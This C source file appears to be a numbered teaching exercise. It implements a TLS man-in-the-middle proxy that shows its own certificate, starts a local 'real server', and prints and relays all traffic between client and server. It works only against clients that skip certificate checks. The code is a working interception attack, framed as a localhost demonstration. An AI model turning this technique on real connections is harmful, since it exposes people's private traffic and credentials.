/* 39 TLS client, the man in the middle: stands where the client looks for the server, shows a
 * certificate of its own, and passes on what both say, after reading it. It breaks no cipher: to
 * the client it is the server, to the server it is a client. All it needs is that the client does
 * not check. One client after the other, with blocking calls. */
#include <errno.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include "lib/net.h"
#include "lib/pki.h"
#include "lib/tls.h"

enum { PIECE = 16384, BACKLOG = 16, PORT_BYTES = 24, NAME_BYTES = 256, REASON = 256 };
static const char shown[] = PKI_FOLDER "/middle.pem"; /* by an authority that nobody knows */

/* The lines of the real server's output, among ours. */
static void *pass_on_lines(void *output)
{
	char line[PIECE];
	while (fgets(line, sizeof line, output))
		printf("(server) %s", line);
	return NULL;
}

static _Noreturn void become_server(int output, struct place place)
{
	char path[PIECE];
	ssize_t n = readlink("/proc/self/exe", path, sizeof path - 1);
	path[n > 0 ? n : 0] = '\0';
	char *name = strrchr(path, '/');
	if (name && (size_t)(path + sizeof path - name) > sizeof "/server")
		memcpy(name, "/server", sizeof "/server");
	if (prctl(PR_SET_PDEATHSIG, SIGTERM) == 0 && dup2(output, STDOUT_FILENO) >= 0)
		execl(path, "server", place.host, place.port, (char *)NULL);
	die(path);
}

/* Starts the real server, which lies beside us, and waits until it listens. */
static void start_server(struct place place)
{
	int ends[2];
	char line[PIECE];
	if (pipe(ends) < 0)
		die("pipe");
	pid_t child = fork();
	if (child == 0)
		become_server(ends[1], place);
	close(ends[1]);
	FILE *output = child > 0 ? fdopen(ends[0], "re") : NULL;
	if (!output || !fgets(line, sizeof line, output))
		die("the real server");
	printf("(server) %s", line);
	if (start_detached(pass_on_lines, output) != 0)
		die("thread");
}

static void show(const char *who, const char *text, int n)
{
	for (int at = 0; at < n;) {
		int len = (int)strcspn(text + at, "\r\n");
		if (len > 0)
			printf("I read of the %s: %.*s\n", who, len, text + at);
		at += len + (int)strspn(text + at + len, "\r\n");
	}
}

/* What has come from one goes to the other. False at the end of it. */
static bool pass_on(SSL *from, SSL *to, const char *who)
{
	char piece[PIECE + 1];
	do {
		int n = SSL_read(from, piece, PIECE);
		if (n <= 0) /* a record may be none of theirs: a ticket, for example */
			return SSL_get_error(from, n) == SSL_ERROR_WANT_READ;
		piece[n] = '\0';
		show(who, piece, n);
		if (SSL_write(to, piece, n) <= 0)
			return false;
	} while (SSL_pending(from) > 0);
	return true;
}

static void stand_between(SSL *client, SSL *server)
{
	struct pollfd both[] = {{SSL_get_fd(client), POLLIN, 0}, {SSL_get_fd(server), POLLIN, 0}};
	bool goes_on = true;
	while (goes_on && (poll(both, 2, -1) > 0 || errno == EINTR)) {
		if (both[0].revents)
			goes_on = pass_on(client, server, "client");
		if (goes_on && both[1].revents)
			goes_on = pass_on(server, client, "server");
	}
	(void)SSL_shutdown(client); /* both have gone, or hear that we go */
	(void)SSL_shutdown(server);
}

/* Asks the real server for the name that the client wants, and believes whatever it shows. */
static SSL *connect_as_client(SSL_CTX *context, struct place place, const char *name)
{
	char wanted[NAME_BYTES];
	int fd = connect_to(place, SOCK_STREAM, 0);
	SSL *ssl = SSL_new(context);
	(void)snprintf(wanted, sizeof wanted, "%s", name ? name : "localhost");
	if (fd < 0 || !ssl || !SSL_set_fd(ssl, fd) || !SSL_set_tlsext_host_name(ssl, wanted) ||
	    SSL_connect(ssl) <= 0)
		tls_die("the real server");
	return ssl;
}

static void close_both(SSL *ssl)
{
	int fd = SSL_get_fd(ssl);
	SSL_free(ssl);
	close(fd);
}

static void attack(SSL_CTX *as_server, SSL_CTX *as_client, int fd, struct place place)
{
	char text[REASON];
	SSL *client = SSL_new(as_server);
	if (!client || !SSL_set_fd(client, fd))
		tls_die("connection");
	int result = SSL_accept(client);
	if (result > 0) {
		printf("The client takes me for the server\n");
		SSL *server = connect_as_client(
		        as_client, place, SSL_get_servername(client, TLSEXT_NAMETYPE_host_name));
		stand_between(client, server);
		close_both(server);
	} else {
		printf("No luck: %s\n", tls_reason(client, result, text, sizeof text));
	}
	close_both(client);
}

int main(int argc, char **argv)
{
	char next[PORT_BYTES];
	struct place place = begin(argc, argv, NULL,
	                           "mitm [-h] [host [port]]    (127.0.0.1 8080; "
	                           "the real server gets the port behind it)");
	(void)snprintf(next, sizeof next, "%ld", strtol(place.port, NULL, 10) + 1);
	struct place real = {place.host, next};
	stop_on_signals();
	start_server(real);
	SSL_CTX *as_server = SSL_CTX_new(TLS_server_method()),
	        *as_client = SSL_CTX_new(TLS_client_method());
	if (!as_server || !as_client || SSL_CTX_use_certificate_chain_file(as_server, shown) <= 0 ||
	    SSL_CTX_use_PrivateKey_file(as_server, shown, SSL_FILETYPE_PEM) <= 0)
		tls_die(shown);
	(void)SSL_CTX_clear_mode(as_server, SSL_MODE_AUTO_RETRY); /* poll() tells what is there */
	(void)SSL_CTX_clear_mode(as_client, SSL_MODE_AUTO_RETRY);
	tls_prepare(as_server);
	tls_prepare(as_client);
	int listener = listen_on(place, SOCK_STREAM, BACKLOG);
	printf("In the middle, on %s port %s\n", place.host, place.port);
	for (;;) {
		int fd = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
		if (fd >= 0)
			attack(as_server, as_client, fd, real);
		else if (errno != EINTR && errno != ECONNABORTED)
			die("accept");
	}
}
